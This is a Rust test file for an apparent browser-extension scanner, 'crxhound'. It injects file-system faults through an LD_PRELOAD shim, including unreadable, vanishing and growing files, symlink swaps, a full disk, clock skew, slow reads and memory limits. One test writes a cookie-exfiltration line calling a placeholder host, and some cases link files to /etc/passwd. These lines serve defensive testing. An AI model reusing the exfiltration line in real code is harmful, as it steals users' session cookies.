//! A machine that fails while it is scanned: files that cannot be read, vanish, grow or become links at the moment they are
//! opened, a full disk, a wrong clock, little memory and few handles. Each becomes a stated error, and the rest is read.
#![cfg(target_os = "linux")]

use std::fs;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::LazyLock;
use std::time::Instant;

use serde_json::Value;

use super::commands::crxhound;
use crate::support::{made, material};

/// What stands between the program and its files; `None` (with a loud word, in CI a failure) where there is no C compiler.
fn shim() -> Option<&'static Path> {
    static SHIM: LazyLock<Option<PathBuf>> = LazyLock::new(|| {
        let library = Path::new(env!("CARGO_TARGET_TMPDIR")).join("shim.so");
        let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/shim.c");
        let built = Command::new("cc").args(["-shared", "-fPIC", "-O1", "-o"]).arg(&library).arg(source).arg("-ldl").output();
        match built {
            Ok(output) if output.status.success() => Some(library),
            Ok(output) => panic!("{}", String::from_utf8_lossy(&output.stderr)),
            Err(error) => {
                material::skip(&format!("no C compiler, so that no file fails: {error}"));
                None
            }
        }
    });
    SHIM.as_deref()
}

/// The program, with `fault` on the files whose path ends in `file`.
fn faulty(home: &Path, shim: &Path, file: &str, fault: &str) -> Command {
    let mut command = crxhound(home);
    command.env("LD_PRELOAD", shim).env("SHIM_FILE", file).env("SHIM_DO", fault);
    command
}

/// The report on standard output; a scan that crashes has none.
fn report(output: &Output) -> Value {
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(matches!(output.status.code(), Some(0..=2)), "{:?}: {said}", output.status);
    assert!(!said.contains("panicked"), "{said}");
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {said}"))
}

fn errors(report: &Value) -> Vec<String> {
    let errors = report["errors"].as_array().unwrap().iter();
    errors.map(|error| format!("{}: {}", error["path"].as_str().unwrap(), error["message"].as_str().unwrap())).collect()
}

/// Without the fields that differ from run to run.
fn lasting(mut report: Value) -> Value {
    for field in ["scan_id", "started_at", "duration_ms", "host"] {
        report[field] = Value::Null;
    }
    report
}

/// A home with a user-data folder of one profile with two extensions, and the folder of the first one.
fn home() -> (tempfile::TempDir, PathBuf, PathBuf) {
    let home = tempfile::tempdir().unwrap();
    let data = made::user_data(&home.path().join("data"), 1, 2, 3_000).path;
    let first = data.join("Default/Extensions").join(made::id(0).as_str()).join("1.0_0");
    (home, data, first)
}

#[test]
fn a_script_that_fails_vanishes_or_changes_under_the_scan_is_said_and_the_rest_is_read() {
    let Some(shim) = shim() else { return };
    for (fault, words) in [
        ("open=5", "Input/output error"),
        ("open=11", "temporarily unavailable"),
        ("open=12", "Cannot allocate memory"),
        ("open=13", "permission denied"),
        ("open=16", "busy"),
        ("open=24", "Too many open files"),
        ("open=116", "Stale file handle"),
        ("read=5", "Input/output error"),
        ("read=116", "Stale file handle"),
        ("read=121", "Remote I/O error"),
        ("vanish", "it is gone"),
        ("link=/dev/zero", "not a regular file"),
        ("link=/", "not a regular file"),
        ("link=/no/such/file", "it is gone"),
        ("link=worker.js", "symbolic links"),
    ] {
        let (home, data, first) = home();
        let mut command = faulty(home.path(), shim, &format!("{}/1.0_0/worker.js", made::id(0)), fault);
        let output = command.arg("scan").arg(&data).args(["--format", "json"]).output().unwrap();
        let (report, stderr) = (report(&output), String::from_utf8_lossy(&output.stderr).into_owned());
        let place = first.join("worker.js").display().to_string();
        let said = errors(&report);
        assert!(said.iter().any(|said| said.starts_with(&place) && said.contains(words)), "{fault}: {said:?}");
        assert!(stderr.contains("warning") && stderr.contains("worker.js"), "{fault}: {stderr}");
        assert_eq!(output.status.code(), Some(2), "{fault}: nothing found in what could not be read whole");
        let names: Vec<_> = report["extensions"].as_array().unwrap().iter().map(|one| one["name"].clone()).collect();
        assert_eq!(names.len(), 2, "{fault}: {names:?}");
    }
}

#[test]
fn a_script_that_grows_or_is_emptied_while_it_is_read_is_read_as_it_is() {
    let Some(shim) = shim() else { return };
    for fault in ["grow", "empty"] {
        let (home, data, first) = home();
        let mut command = faulty(home.path(), shim, &format!("{}/1.0_0/worker.js", made::id(0)), fault);
        let output = command.arg("scan").arg(&data).args(["--format", "json", "--with-files"]).output().unwrap();
        let report = report(&output);
        let own = made::id(0);
        let extension = report["extensions"].as_array().unwrap().iter().find(|one| one["id"] == own.as_str()).unwrap();
        let script = extension["files"].as_array().unwrap().iter().find(|file| file["path"] == "worker.js").unwrap();
        let now = fs::metadata(first.join("worker.js")).unwrap().len();
        let size = script["size"].as_u64().unwrap();
        assert!(size <= now && (size == 0) == (fault == "empty"), "{fault}: {size} of {now} bytes");
    }
}

/// Who owns a profile may exchange a file for a link while an administrator scans; what it leads to is not the extension's.
#[test]
fn a_script_that_becomes_a_link_out_of_the_extension_shows_nothing_of_what_lies_there() {
    let Some(shim) = shim() else { return };
    let (home, data, _) = home();
    let secret = home.path().join("secret.js");
    fs::write(&secret, "fetch('https://secret.invalid/' + document.cookie);\n".repeat(3)).unwrap();
    let hash = crxhound::model::hash::hex(&crxhound::model::hash::sha256(&fs::read(&secret).unwrap()));
    let end = format!("{}/1.0_0/worker.js", made::id(0));
    let mut command = faulty(home.path(), shim, &end, &format!("link={}", secret.display()));
    let output = command.arg("scan").arg(&data).args(["--format", "json", "--with-files"]).output().unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(!text.contains("secret.invalid") && !text.contains(&hash), "what lies outside was read");
    let said = errors(&report(&output));
    assert!(said.iter().any(|said| said.contains("worker.js: ") && said.contains("a link")), "{said:?}");
}

#[test]
fn folders_manifests_and_preferences_that_fail_are_said() {
    let Some(shim) = shim() else { return };
    let id = made::id(0);
    for (file, fault) in [
        (format!("{id}/1.0_0/manifest.json"), "open=5"),
        (format!("{id}/1.0_0/manifest.json"), "read=5"),
        (format!("{id}/1.0_0/manifest.json"), "vanish"),
        (format!("{id}/1.0_0"), "list=5"),
        ("data/Default/Extensions".to_owned(), "list=5"),
        ("data/Default/Preferences".to_owned(), "open=5"),
        ("data/Default/Preferences".to_owned(), "read=5"),
        ("data/Default/Preferences".to_owned(), "vanish"),
        ("data/Default/Preferences".to_owned(), "empty"),
        ("data".to_owned(), "list=5"),
    ] {
        let (home, data, _) = home();
        let output =
            faulty(home.path(), shim, &file, fault).arg("scan").arg(&data).args(["--format", "json"]).output().unwrap();
        let said = errors(&report(&output));
        assert!(said.iter().any(|said| said.contains(&file)), "{file}, {fault}: {said:?}");
        assert!(matches!(output.status.code(), Some(1 | 2)), "{file}, {fault}: {:?}", output.status);
    }
}

#[test]
fn a_disk_that_is_full_leaves_no_half_report_and_no_other_answer() {
    let Some(shim) = shim() else { return };
    for errno in ["28", "5", "122"] {
        let (home, data, _) = home();
        let mut command = faulty(home.path(), shim, "", &format!("write={errno}"));
        command.arg("scan").arg(&data).args(["--summary", "--output", "report.html", "--output", "report.json"]);
        let output = command.output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{said}");
        assert!(said.contains("report.html: cannot be written") && said.contains("report.json: cannot be written"), "{said}");
        assert!(String::from_utf8_lossy(&output.stdout).contains("2 extensions"), "the summary is there: {said}");
        let left: Vec<_> = fs::read_dir(home.path()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
        assert_eq!(left, ["data"], "{said}");
    }
}

/// As somebody who is not root, for whom results are kept. The home becomes theirs.
fn as_person(command: &mut Command, home: &Path) {
    const NOBODY: u32 = 65_534;
    if rustix::process::geteuid().is_root() {
        for entry in walkdir::WalkDir::new(home) {
            std::os::unix::fs::lchown(entry.unwrap().path(), Some(NOBODY), Some(NOBODY)).unwrap();
        }
        command.uid(NOBODY).gid(NOBODY);
    }
}

#[test]
fn results_that_cannot_be_kept_or_read_again_change_no_answer() {
    let Some(shim) = shim() else { return };
    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/packages/sharpext");
    let (home, ..) = home();
    let inspect = |fault: &str, file: &str| {
        let mut command = faulty(home.path(), shim, file, fault);
        command.args(["inspect", sample, "--format", "json"]);
        as_person(&mut command, home.path());
        let output = command.output().unwrap();
        (lasting(report(&output)), output.status.code())
    };
    let expected = inspect("nothing", "");
    let kept = || {
        let files = walkdir::WalkDir::new(home.path().join(".cache")).into_iter().filter_map(Result::ok);
        files.filter(|entry| entry.file_type().is_file()).map(walkdir::DirEntry::into_path).collect::<Vec<_>>()
    };
    let [entry] = kept().try_into().expect("one result is kept");
    let end = entry.file_name().unwrap().to_str().unwrap().to_owned();
    for fault in ["read=5", "open=5", "grow", "empty", "vanish", "link=/etc/passwd", "link=/dev/zero", "write=28", "write=5"] {
        assert_eq!(inspect(fault, &end), expected, "{fault}");
    }
    fs::remove_dir_all(home.path().join(".cache")).unwrap();
    assert_eq!(inspect("write=28", ""), expected, "nothing can be kept");
    assert_eq!(kept(), Vec::<PathBuf>::new(), "nothing half written is kept");
}

#[test]
fn a_clock_that_is_wrong_or_runs_backwards_changes_no_finding() {
    let Some(shim) = shim() else { return };
    let (home, data, _) = home();
    let scan = |fault: &str| {
        let mut command = faulty(home.path(), shim, "", fault);
        report(&command.arg("scan").arg(&data).args(["--format", "json"]).output().unwrap())
    };
    let expected = lasting(scan("nothing"));
    for fault in ["clock=0", "clock=-86400000", "clock=946684800", "clock=4102444800", "clock=300000000000", "backwards"] {
        let found = scan(fault);
        let started = found["started_at"].as_str().unwrap().to_owned();
        assert!(started.ends_with('Z'), "{fault}: {started}");
        assert_eq!(lasting(found), expected, "{fault}");
    }
    assert!(scan("clock=0")["started_at"].as_str().unwrap().starts_with("1970-01-01T00:00:0"), "the clock was changed");
}

#[test]
fn a_home_behind_a_slow_network_is_read_as_any_other_and_within_the_time_that_is_given() {
    let Some(shim) = shim() else { return };
    let home = tempfile::tempdir().unwrap();
    let data = made::user_data(&home.path().join("data"), 1, 100, 500).path;
    let scan = |command: &mut Command, more: &[&str]| {
        let scan = ["scan", "--emulate", "never", "--format", "json", "--user-data-dir"];
        let started = Instant::now();
        let output = command.args(scan).arg(&data).args(more).output().unwrap();
        (lasting(report(&output)), output.status.code(), started.elapsed())
    };
    let (near, ..) = scan(&mut crxhound(home.path()), &[]);
    let (far, code, whole) = scan(&mut faulty(home.path(), shim, "", "slow=20"), &[]);
    assert_eq!((far, code), (near, Some(0)));

    let (cut, code, taken) = scan(&mut faulty(home.path(), shim, "", "slow=20"), &["--max-seconds", "2"]);
    assert_eq!(code, Some(2), "an incomplete scan");
    assert!(taken < whole, "{taken:?} of {whole:?}");
    assert!(errors(&cut).iter().any(|error| error.contains("time")), "{:?}", errors(&cut));
}

#[test]
#[ignore = "takes half a minute"]
fn a_server_that_never_answers_ends_the_scan_with_a_reason() {
    let Some(shim) = shim() else { return };
    let (home, data, _) = home();
    let mut command = faulty(home.path(), shim, "manifest.json", "slow=600000");
    let output = command.args(["scan", "--max-seconds", "1", "--user-data-dir"]).arg(data).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(said.contains("cannot be read to its end"), "{said}");
}

#[test]
fn sixty_four_handles_are_enough() {
    let home = tempfile::tempdir().unwrap();
    let data = made::user_data(&home.path().join("data"), 4, 30, 500).path;
    let scan = |limit: &str| {
        let mut command = crxhound(home.path());
        let program = command.get_program().to_owned();
        command = Command::new("sh");
        command.args(["-c", &format!("ulimit -n {limit}; exec \"$@\""), "sh"]).arg(program);
        command.arg("scan").arg(&data).args(["--format", "json", "--threads", "8"]).env("HOME", home.path());
        report(&command.output().unwrap())
    };
    let few = scan("64");
    assert_eq!(errors(&few), Vec::<String>::new());
    assert_eq!(few["extensions"].as_array().map(Vec::len), Some(120));
    assert_eq!(lasting(few), lasting(scan("1024")));
}

/// A group of processes that may have so much memory, and no more.
struct Group(PathBuf);

impl Group {
    fn of(bytes: u64) -> Result<Group, String> {
        let (folder, file) = match Path::new("/sys/fs/cgroup/cgroup.controllers").exists() {
            true => (PathBuf::from("/sys/fs/cgroup"), "memory.max"),
            false => (PathBuf::from("/sys/fs/cgroup/memory"), "memory.limit_in_bytes"),
        };
        let group = Group(folder.join(format!("crxhound-test-{}", std::process::id())));
        fs::create_dir(&group.0).map_err(|error| error.to_string())?;
        fs::write(group.0.join(file), bytes.to_string()).map_err(|error| error.to_string())?;
        Ok(group)
    }
}

impl Drop for Group {
    fn drop(&mut self) {
        let _ = fs::remove_dir(&self.0);
    }
}

#[test]
fn a_full_scan_with_256_mb_of_memory_is_whole() {
    let group = match Group::of(256 << 20) {
        Ok(group) => group,
        // No failure in CI: nobody but root may bound memory like that, and `bounds` measures what is used.
        Err(error) => return eprintln!("SKIPPED: no group of processes with little memory can be made: {error}"),
    };
    let home = tempfile::tempdir().unwrap();
    let data = made::user_data(&home.path().join("data"), 2, 100, 30_000).path;
    // Something to run in the sealed worker, which counts as well.
    let thief = home.path().join("thief");
    fs::create_dir(&thief).unwrap();
    for file in ["manifest.json", "bg.js", "dev.html", "dev.js"] {
        let sample = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/packages/sharpext").join(file);
        fs::copy(sample, thief.join(file)).unwrap();
    }
    made::MadeUserData { path: data.clone() }
        .profile("Thief", &serde_json::json!({made::id(999).as_str(): {"location": 4, "state": 1, "path": thief}}));
    let mut command = Command::new("sh");
    command.args(["-c", &format!("echo $$ > {}/cgroup.procs && exec \"$@\"", group.0.display()), "sh"]);
    command.arg(assert_cmd::cargo::cargo_bin!("crxhound")).arg("scan").arg(&data);
    command.args(["--format", "json", "--max-memory", "256M", "--emulate", "always"]).env("HOME", home.path());
    let output = command.output().unwrap();
    let report = report(&output);
    assert_eq!(errors(&report), Vec::<String>::new());
    assert_eq!(report["extensions"].as_array().map(Vec::len), Some(201));
    assert_eq!(report["complete"], true);
}

#[test]
fn a_scan_killed_at_any_moment_leaves_what_the_next_one_needs() {
    let (home, data, _) = home();
    let sample = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/packages/sharpext");
    fs::create_dir(home.path().join("reports")).unwrap();
    let inspect = || {
        let mut command = crxhound(home.path());
        command.args(["inspect", sample, "--output", "reports/a.json", "--output", "reports/a.html", "--quiet"]);
        as_person(&mut command, home.path());
        command
    };
    // Times without a pattern, from before the first line of `main` to behind the end.
    let mut number = 12_345_u64;
    for _ in 0..25 {
        number = number.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        let mut child = inspect().spawn().unwrap();
        std::thread::sleep(std::time::Duration::from_millis((number >> 33) % 400));
        child.kill().unwrap();
        child.wait().unwrap();
        for entry in fs::read_dir(home.path().join("reports")).unwrap() {
            let entry = entry.unwrap().path();
            assert!(["a.json", "a.html"].map(std::ffi::OsStr::new).contains(&entry.file_name().unwrap()), "{entry:?}");
            if entry.extension().is_some_and(|ending| ending == "json") {
                serde_json::from_slice::<Value>(&fs::read(entry).unwrap()).expect("a report is whole or not there");
            }
        }
    }
    assert!(inspect().status().unwrap().code().is_some());
    let whole: Value = serde_json::from_slice(&fs::read(home.path().join("reports/a.json")).unwrap()).unwrap();
    let mut fresh = crxhound(home.path());
    let fresh = fresh.args(["inspect", sample, "--no-cache", "--format", "json"]).output().unwrap();
    assert_eq!(lasting(whole), lasting(report(&fresh)));
    assert!(data.is_dir());
}

#[test]
#[ignore = "takes minutes"]
fn ten_thousand_extensions_cost_ten_times_what_a_thousand_cost() {
    let cost = |count: usize| {
        let home = tempfile::tempdir().unwrap();
        let data = made::user_data(&home.path().join("data"), count / 500, 500, 2_000).path;
        let begin = std::time::Instant::now();
        let output = crxhound(home.path()).arg("scan").arg(&data).args(["--format", "json"]).output().unwrap();
        let report = report(&output);
        assert_eq!(report["extensions"].as_array().map(Vec::len), Some(count));
        assert_eq!(errors(&report), Vec::<String>::new());
        begin.elapsed()
    };
    let (few, many) = (cost(1_000), cost(10_000));
    assert!(many < few * 16, "{few:?} for 1,000, {many:?} for 10,000");
}

#[test]
#[ignore = "takes minutes"]
fn two_hundred_thousand_files_and_trees_without_end_are_bounded_and_said() {
    let (home, data, first) = home();
    for folder in 0..200 {
        let folder = first.join(format!("f{folder:03}"));
        fs::create_dir(&folder).unwrap();
        (0..1_000).for_each(|n| fs::write(folder.join(format!("{n}.txt")), b"").unwrap());
    }
    let mut deep = data.join("Default/Extensions").join(made::id(1).as_str()).join("1.0_0");
    for _ in 0..500 {
        deep.push("d");
    }
    fs::create_dir_all(&deep).unwrap();
    fs::write(deep.join("a.js"), "1;").unwrap();
    let begin = std::time::Instant::now();
    let output = crxhound(home.path()).arg("scan").arg(&data).args(["--format", "json", "--with-files"]).output().unwrap();
    let report = report(&output);
    let said = errors(&report);
    // What the manifest names is read first, however many files sort before it.
    let own = report["extensions"].as_array().unwrap().iter().find(|one| one["id"] == made::id(0).as_str()).unwrap();
    assert!(own["files"].as_array().unwrap().iter().any(|file| file["path"] == "worker.js"), "the worker is not read");
    assert!(own["findings"].as_array().unwrap().iter().any(|one| one["rule"] == "has-code-that-was-not-read"), "{own}");
    assert!(said.iter().any(|said| said.contains("files") && said.contains("left out")), "{said:?}");
    assert!(said.iter().any(|said| said.contains("deep")), "{said:?}");
    assert_eq!(report["extensions"].as_array().map(Vec::len), Some(2));
    assert_eq!(output.status.code(), Some(2));
    assert!(begin.elapsed().as_secs() < 120, "{:?}", begin.elapsed());
}
